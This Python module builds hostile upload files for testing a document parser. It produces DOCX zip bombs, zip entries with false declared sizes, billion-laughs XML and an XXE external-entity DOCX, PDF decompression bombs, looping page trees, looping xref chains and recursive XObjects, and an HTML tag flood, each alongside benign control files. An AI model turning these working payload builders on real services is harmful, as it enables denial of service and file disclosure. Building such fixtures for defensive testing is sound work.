"""Hostile uploads as bytes: zip and XML bombs in DOCX, decompression bombs and loops in PDF.

Every builder is deterministic and small on disk (at most about a megabyte) while what it claims
or inflates to is huge. The PDFs are written as raw PDF syntax with real xref offsets and the zips
by hand, because both libraries that could write them refuse to write lies. A deflate stream of
one repeated byte is built from one full-flushed block repeated (after a full flush deflate starts
afresh, so every further megabyte compresses to the same bytes): gigabytes cost milliseconds.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from functools import cache

MIB = 1024 * 1024
_ADLER_MOD = 65521

_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)


# -- deflate of a repeated byte ---------------------------------------------------------------------


@cache
def _raw_deflate_run(size: int, byte: int) -> bytes:
    """Raw deflate of `size` (a whole number of MiB) copies of `byte`."""
    assert size % MIB == 0
    block = bytes([byte]) * MIB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    return piece * (size // MIB) + compressor.flush()


@cache
def _crc32_run(size: int, byte: int) -> int:
    block, crc = bytes([byte]) * MIB, 0
    for _ in range(size // MIB):
        crc = zlib.crc32(block, crc)
    return crc


def _adler32_run(size: int, byte: int) -> int:
    # Closed form of Adler-32 over `size` equal bytes, so no gigabyte is ever touched.
    a = (1 + byte * size) % _ADLER_MOD
    b = (size + byte * size * (size + 1) // 2) % _ADLER_MOD
    return (b << 16) | a


def zlib_run(size: int, byte: int = 0x20) -> bytes:
    """The zlib stream (what /FlateDecode reads) of `size` copies of `byte`."""
    return b"\x78\xda" + _raw_deflate_run(size, byte) + struct.pack(">I", _adler32_run(size, byte))


# -- DOCX ----------------------------------------------------------------------------------------


def _document_xml(body: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document '
        + _W
        + b"><w:body>"
        + body
        + (b"</w:body></w:document>")
    )


def _paragraph(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>" + text + b"</w:t></w:r></w:p>"


def _zip(entries: Sequence[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of (name, raw deflate data, declared CRC-32, declared uncompressed size) entries."""
    local, central = bytearray(), bytearray()
    for name, data, crc, size in entries:
        encoded = name.encode()
        offset = len(local)
        # version 20, no flags, deflate, fixed DOS time 1980-01-01 so the bytes never change
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), size)
        local += b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded + data
        central += b"PK\x01\x02" + struct.pack("<H", 20) + fields
        central += struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(local), 0)
    return bytes(local + central + end)


def _entry(name: str, raw: bytes) -> tuple[str, bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, compressor.compress(raw) + compressor.flush(), zlib.crc32(raw), len(raw)


def _docx(document_xml: bytes, *extra: tuple[str, bytes, int, int]) -> bytes:
    return _zip(
        [
            _entry("[Content_Types].xml", _CONTENT_TYPES),
            _entry("_rels/.rels", _RELS),
            _entry("word/document.xml", document_xml),
            *extra,
        ]
    )


def plain_docx(text: str = "An ordinary paragraph of a harmless document.") -> bytes:
    """A minimal valid DOCX written by the same zip writer, so a refusal is about the hazard alone."""
    return _docx(_document_xml(_paragraph(text.encode())))


def zip_bomb_docx(inflated: int = 256 * MIB) -> bytes:
    """A valid DOCX carrying a part that inflates to `inflated` bytes of zeros (about 1 MB on disk per GiB)."""
    return _docx(
        _document_xml(_paragraph(b"Quarterly plan.")),
        ("word/media/image1.png", _raw_deflate_run(inflated, 0), _crc32_run(inflated, 0), inflated),
    )


def zip_ratio_bomb_docx(inflated: int = 64 * MIB) -> bytes:
    """Under the unpacked-size cap, but a part inflates a thousandfold: no real document compresses so well."""
    return zip_bomb_docx(inflated)


def many_entries_docx(entries: int = 6_000) -> bytes:
    """A valid DOCX padded with `entries` empty members, each one more record to parse and hold."""
    padding = [_entry(f"p/{number}", b"") for number in range(entries)]
    return _docx(_document_xml(_paragraph(b"Padded.")), *padding)


def lying_zip_sizes_docx(inflated: int = 512 * MIB, declared: int = 4096) -> bytes:
    """word/document.xml says it is `declared` bytes (with the CRC of that prefix) but inflates to `inflated`.

    The sizes in the zip are the only ones a pre-check can read, and here they pass every check.
    """
    start = _document_xml(b"")[: -len(b"</w:body></w:document>")] + b"<w:p><w:r><w:t>"
    run = inflated - len(start)
    run -= run % MIB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(start) + compressor.flush(zlib.Z_FULL_FLUSH)
    data = head + _raw_deflate_run(run, 0x20)
    prefix = (start + b" " * declared)[:declared]
    return _zip(
        [
            _entry("[Content_Types].xml", _CONTENT_TYPES),
            _entry("_rels/.rels", _RELS),
            ("word/document.xml", data, zlib.crc32(prefix), declared),
        ]
    )


def xml_bomb_docx(depth: int = 10) -> bytes:
    """Billion laughs in word/document.xml: `depth` levels of ten, 10**(depth-1) "lol"s if entities were expanded."""
    levels = [b'<!ENTITY lol0 "lol">']
    levels += [b"<!ENTITY lol%d " % n + b'"' + b"&lol%d;" % (n - 1) * 10 + b'">' for n in range(1, depth)]
    doctype = b"<!DOCTYPE w:document [" + b"".join(levels) + b"]>"
    bomb = b"&lol%d;" % (depth - 1)
    xml = _document_xml(_paragraph(b"Before the bomb.") + _paragraph(bomb) + _paragraph(b"After the bomb."))
    return _docx(xml.replace(b"\n<w:document", b"\n" + doctype + b"<w:document", 1))


def external_entity_docx(url: str) -> bytes:
    """word/document.xml declares an external entity at `url` (file:// or http://) and uses it in the text."""
    doctype = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "' + url.encode() + b'">]>'
    xml = _document_xml(_paragraph(b"Leaked: [&xxe;]"))
    return _docx(xml.replace(b"\n<w:document", b"\n" + doctype + b"<w:document", 1))


# -- PDF -----------------------------------------------------------------------------------------

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def _text_ops(text: bytes) -> bytes:
    return b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"


def _pdf(objects: Sequence[bytes]) -> bytes:
    """A PDF of `objects` (numbered from 1, the first is the catalog) with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += _xref(offsets) + b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % _last_xref(out))


def _xref(offsets: Sequence[int]) -> bytes:
    rows = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1) + rows


def _last_xref(out: bytes | bytearray) -> int:
    return bytes(out).rindex(b"xref\n0 ")


def _one_page(contents: bytes, resources: bytes = b"<< /Font << /F1 4 0 R >> >>", *more: bytes) -> bytes:
    """Catalog 1, pages 2, page 3, font 4, the page's content stream 5, then `more` objects from 6."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources " + resources + b" /Contents 5 0 R >>",
            _FONT,
            contents,
            *more,
        ]
    )


def ordinary_pdf(text: bytes = b"An ordinary page of a harmless document.") -> bytes:
    """One page of text, written by the same writer as the hostile ones."""
    return _one_page(_stream(_text_ops(text)))


def pdf_decompression_bomb(inflated: int = 4096 * MIB) -> bytes:
    """The page's content stream inflates to `inflated` bytes of spaces (4 GiB by default) through two Flate layers."""
    inner = zlib_run(inflated)
    outer = zlib.compress(inner, 9)
    return _one_page(_stream(outer, b"/Filter [/FlateDecode /FlateDecode] "))


def pdf_looping_pages() -> bytes:
    """The page tree's second kid is a /Pages node whose only kid is the root: walking it never ends."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 3 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> "
            b"/Contents 5 0 R >>",
            _FONT,
            _stream(_text_ops(b"Page one of a looping page tree.")),
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 2 >>",
        ]
    )


def pdf_looping_xref() -> bytes:
    """Two xref sections whose trailers name each other as /Prev, so following /Prev never ends."""
    page = ordinary_pdf(b"A page behind a looping xref chain.")
    body = page[: _last_xref(page)]
    offsets = [body.index(b"\n%d 0 obj\n" % n) + 1 for n in range(1, 6)]
    first = len(body)
    second_placeholder = b"%010d" % 0
    section_a = _xref(offsets) + b"trailer\n<< /Size 6 /Root 1 0 R /Prev " + second_placeholder + b" >>\n"
    second = first + len(section_a)
    section_a = section_a.replace(second_placeholder, b"%010d" % second)
    section_b = _xref(offsets) + b"trailer\n<< /Size 6 /Root 1 0 R /Prev %010d >>\n" % first
    return body + section_a + section_b + b"startxref\n%d\n%%%%EOF\n" % second


def pdf_recursive_xobject() -> bytes:
    """A Form XObject whose own resources name itself, and which draws itself."""
    form = _stream(
        b"q /X0 Do Q",
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X0 6 0 R >> >> ",
    )
    return _one_page(
        _stream(_text_ops(b"A page that draws a form that draws itself.") + b" /X0 Do"),
        b"<< /Font << /F1 4 0 R >> /XObject << /X0 6 0 R >> >>",
        form,
    )


def pdf_xobject_fanout(depth: int = 40, pages: int = 100) -> bytes:
    """`pages` pages drawing form X0; each form Xn draws X(n+1) twice, the last shows text: 2**depth draws a page.

    No object repeats on one path, so cycle checks do not see it; a cap on draws per page (pypdf
    has one) still leaves seconds of work per page, and the pages multiply it. Only a clock stops it.
    """
    first_form, first_page = 5, 5 + depth
    forms = []
    for level in range(depth):
        if level == depth - 1:
            content, resources = _text_ops(b"leaf"), b"<< /Font << /F1 3 0 R >> >>"
        else:
            content, resources = b"/X Do /X Do", b"<< /XObject << /X %d 0 R >> >>" % (first_form + level + 1)
        forms.append(
            _stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources " + resources + b" ")
        )
    kids = b" ".join(b"%d 0 R" % (first_page + n) for n in range(pages))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /X %d 0 R >> >> "
        b"/Contents 4 0 R >>" % first_form
    )
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            _FONT,
            _stream(b"/X Do"),
            *forms,
            *[page] * pages,
        ]
    )


# -- HTML ----------------------------------------------------------------------------------------


def html_tag_flood(tags: int = 2_000_000) -> bytes:
    """`tags` empty paragraphs: a few bytes each on disk, a tree node of a kilobyte or more each once parsed."""
    return b"<!DOCTYPE html><html><body>" + b"<p>" * tags + b"</body></html>"
